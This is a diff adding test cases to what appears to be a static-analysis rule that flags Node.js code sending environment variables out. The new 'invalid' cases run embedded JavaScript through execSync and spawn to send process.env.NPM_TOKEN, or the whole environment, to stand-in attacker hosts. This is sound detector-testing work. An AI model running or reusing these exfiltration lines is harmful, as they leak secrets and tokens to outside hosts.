@@ -152,6 +152,17 @@ req.end('ping');`,
   ],
   invalid: [
     {
+      name: 'node -e code inside an execSync string is analysed as embedded JavaScript',
+      code: `const { execSync } = require('child_process');
+execSync(\`node -e "require('https').get('https://x.attacker.invalid/?t=' + process.env.NPM_TOKEN)"\`);`,
+      details: ['process.env.NPM_TOKEN (line 1) → https.get url (line 1)'],
+    },
+    {
+      name: "spawn(process.execPath, ['-e', code]): the code argument is analysed",
+      code: `require('child_process').spawn(process.execPath, ['-e', "require('https').request({ hostname: 'y.attacker.invalid', method: 'POST' }).end(JSON.stringify(process.env))"]);`,
+      details: ['process.env (line 1) → https.request body (line 1)'],
+    },
+    {
       name: 'crossenv: the whole environment, JSON + querystring, into an https.request body',
       code: `const https = require('https');
 const querystring = require('querystring');
